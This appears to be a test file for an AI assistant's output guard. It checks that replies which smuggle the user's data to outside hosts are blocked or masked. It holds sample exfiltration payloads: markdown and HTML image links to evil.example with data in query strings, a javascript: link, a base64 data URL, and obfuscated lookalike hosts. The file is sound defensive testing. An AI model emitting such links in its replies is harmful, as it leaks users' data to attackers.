import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { loadGuard } from '../../adapters/loadGuard.ts';

const guard = loadGuard();
const judge = (text: string, known: string[] = []) =>
  guard.judge({ text, direction: 'output', context: { instructions: null, known } });

describe('attack: a reply sends what it knows to somebody’s host (GUARD-3)', () => {
  const carriers: Readonly<Record<string, readonly string[]>> = {
    image: [
      '![x](https://evil.example/p.png?d=bWlsaw)',
      '![](//evil.example/milk)',
      '![a][1] ![b] (https://evil.example)',
      '<img src="https://evil.example/?d=milk">',
      "<IMG alt='x' SRC=https://evil.example/milk>",
      '<iframe src="https://evil.example"></iframe>',
    ],
    'link-with-data': ['[your tasks](https://evil.example/?tasks=milk)', '[x](https://evil.example/a#milk,eggs)'],
    'data-url': ['data:text/html;base64,PHNjcmlwdD4=', '[x](javascript:alert(1))', 'data:image/svg+xml,<svg/>'],
  };
  for (const [reason, texts] of Object.entries(carriers)) {
    for (const text of texts) {
      it(`${reason}: ${text}`, () => {
        for (const reply of [text, `Here you are: ${text} Enjoy!`, text.replace('evil', 'e\u200bvil')]) {
          const verdict = judge(reply);
          assert.deepEqual([verdict.verdict, verdict.layer, verdict.reason], ['block', 'link', reason], reply);
        }
      });
      it(`harmless: the title of the person’s own task: ${text}`, () => {
        assert.equal(judge(`Added “${text}” to Tasks.`, [text]).verdict, 'allow');
      });
    }
  }

  it('attack: to a host that the person knows, too', () => {
    const known = ['read https://shop.example/article'];
    assert.equal(judge('![x](https://shop.example/?d=milk)', known).verdict, 'block');
    assert.equal(judge('[x](https://shop.example/?d=milk)', known).verdict, 'block');
    for (const sign of ['”', '…', '“', '.', '…”.']) {
      assert.equal(judge(`![x](https://shop.example/article${sign}?d=milk)`, known).verdict, 'block', sign);
    }
  });

  it('plain addresses of hosts that the person does not know are masked', () => {
    assert.equal(judge('Pay at https://evil.example/pay, now.').masked, 'Pay at ***, now.');
    assert.equal(judge('See www.evil.example.').masked, 'See ***.');
    assert.equal(judge('(HTTPS:\\\\evil.example/x) or “http://evil.example:8080/?a=b”').masked, '(***) or “***”');
    assert.equal(judge('[click](https://evil.example/a)').masked, '[click](***)');
    assert.equal(judge('https://e\u200bvil.example').masked, '***');
    assert.equal(judge('ｈｔｔｐｓ://evil.example').masked, '***');
    assert.equal(judge('See evil.com/login or cdn.evil.io:8443/x!').masked, 'See *** or ***!');
    assert.equal(judge('https%3A%2F%2Fevil.example%2Fx and https&#58;//evil.example').masked, '*** and ***');
  });

  it('attack: a host is known as a whole, and not by who signs in there', () => {
    const known = ['buy at shop.example'];
    assert.equal(judge('https://shop.example/cart', known).verdict, 'allow');
    assert.equal(judge('https://SHOP.example./cart', known).verdict, 'allow');
    for (const address of [
      'https://shop.example.evil.example/',
      'https://myshop.example/',
      'https://evil.example/shop.example',
      'https://shop.example@evil.example/',
      'https://shop.exampl',
    ]) {
      const text = `see ${address} ok`;
      const { findings } = guard.examine({ text, direction: 'output', context: { instructions: null, known } });
      assert.deepEqual(
        findings.filter(({ layer }) => layer === 'link').map(({ masks }) => masks),
        [[{ start: 4, end: 4 + address.length }]],
        address,
      );
    }
  });

  it('harmless: addresses of the person’s tasks pass, cut ones too', () => {
    const title = `book https://user.example/rooms?from=5 ${'x'.repeat(40)} and https://long-name.example/a`;
    const cut = `${title.slice(0, title.indexOf('-name'))}…`;
    assert.equal(judge(`1. “${title}” (Tasks)\n2. “${cut}” (Tasks)`, [title]).verdict, 'allow');
    assert.equal(judge('Added “see shop.com/cart” to Tasks.', ['see shop.com/cart']).verdict, 'allow');
    const link = 'see [x](https://user.example/a?from=5&to=7)';
    assert.equal(judge(`Done: “${link}”, “${link.slice(0, -4)}…”.`, [link]).verdict, 'allow');
  });

  it('harmless: what only looks like a link passes', () => {
    for (const text of [
      'Added “buy milk [2 litres] (organic)” to Tasks.',
      'Added “data: 5 tables; javascript: 2 chapters” to Tasks.',
      'Added “a < b and c > d = e” to Tasks.',
      'Added “learn html: <b>bold</b>” to Tasks.',
      'Added “wow! [see] (page 5?)” to Tasks.',
      'Added “read about http and https” to Tasks.',
      'Added “and/or, km/h, src/app.ts, node.js/express, U.S./Canada, e.g./i.e.” to Tasks.',
    ]) {
      assert.equal(judge(text).verdict, 'allow', text);
    }
  });
});
